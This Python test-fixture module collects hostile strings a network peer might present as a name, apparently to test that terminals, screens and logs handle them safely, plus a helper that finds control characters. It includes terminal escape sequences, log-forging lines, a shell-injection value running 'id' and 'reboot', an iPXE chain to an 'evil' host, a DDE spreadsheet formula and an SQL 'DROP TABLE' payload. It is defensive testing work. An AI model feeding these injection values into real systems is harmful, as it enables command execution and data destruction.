"""What a stranger on the wire may call himself: strings that mean harm to a terminal, a screen or a log."""

from __future__ import annotations

import unicodedata

MARK = "HOSTILE"
"""Stands in every string, so that a test can see that it came through."""

STRINGS: dict[str, bytes] = {
    "colours": b"\x1b[31mHOSTILE\x1b[0m",
    "screen cleared": b"\x1b[2J\x1b[HHOSTILE",
    "title": b"\x1b]0;HOSTILE\x07",
    "hyperlink": b"\x1b]8;;http://x/\x1b\\HOSTILE\x1b]8;;\x1b\\",
    "clipboard": b"\x1b]52;c;SE9TVElMRQ==\x07HOSTILE",
    "answer back": b"\x1b[c\x1b[6n\x05HOSTILE",
    "device string": b'\x1bP$q"p\x1b\\HOSTILE',
    "eight-bit controls": "\x9b31mHOSTILE\x9d0;x\x9c".encode(),
    "raw eight-bit controls": b"\x9b31mHOSTILE\x9d0;x\x9c",
    "right to left": "HOSTILE\u202egpj.exe\u2066x\u2069\u200f".encode(),
    "rich markup": b"[red]HOSTILE[/] [bold",
    "textual action": b"[@click=app.quit]HOSTILE[/]",
    "closing tag": b"[/]HOSTILE[/red]",
    "escaped bracket": b"\\[HOSTILE\\",
    "template": b"{{ ''.__class__ }}{% for x in y %}HOSTILE",
    "ipxe": b"HOSTILE || shell\nchain http://evil/ ${net0/mac}",
    "shell": b"HOSTILE$(touch /tmp/X)`id`;reboot",
    "formula": b"=cmd|' /C calc'!HOSTILE",
    "nul": b"HOSTILE\0tail\0\0",
    "lines": b"HOSTILE\r\nuser.info forged: all is well\x0b\x0c",
    "separators": "HOSTILE\u2028\u2029\x85next".encode(),
    "backspace": b"good\x08\x08\x08\x08HOSTILE\x7f",
    "tab": b"a\tHOSTILE\tb",
    "not UTF-8": b"HOSTILE\xff\xfe\xc3\x28\xed\xa0\x80",
    "wide": b"HOSTILE" + "\uff21\u8a9e\U0001f9d9".encode() * 8,
    "flags and skin": "HOSTILE\U0001f1e6\U0001f1e6\U0001f44d\U0001f3fd\u2764\ufe0f".encode(),
    "joined": "HOSTILE\U0001f468\u200d\U0001f469\u200d\U0001f467".encode(),
    "zero width": "H\u200bO\u200cS\u2060TILE HOSTILE\ufeff\u00ad\u034f\u115f\u3164".encode(),
    "piled up": b"HOSTILE-e" + "\u0301\u0316\u0334".encode() * 30,
    "marks on nothing": "\u0301\u20e3HOSTILE".encode(),
    "blanks": "HOSTILE\u00a0\u3000\u2800\u2003x".encode(),
    "unassigned": "HOSTILE\u0378\U000e0041\ue000\U0010ffff".encode(),
    "longest": b"HOSTILE" + b"W" * 248,
    "longest wide": ("HOSTILE" + "\u8a9e" * 82).encode(),
    "quotes": b'HOSTILE"\'\\"; DROP TABLE machines; --',
}
"""At most 255 octets each: they fit a DHCP option."""


def unsafe(text: str) -> str:
    """What in a text could steer or mislead a terminal; empty where there is nothing."""
    return "".join(
        char
        for char in text
        if unicodedata.category(char)[0] == "C"
        or unicodedata.category(char) in ("Zl", "Zp")
        or 0xFE00 <= ord(char) < 0xFE10
    )


def texts(value: object) -> list[str]:
    """Every text in a JSON value, keys too."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for pair in value.items() for item in pair for text in texts(item)]
    if isinstance(value, (list, tuple)):
        return [text for item in value for text in texts(item)]
    return []
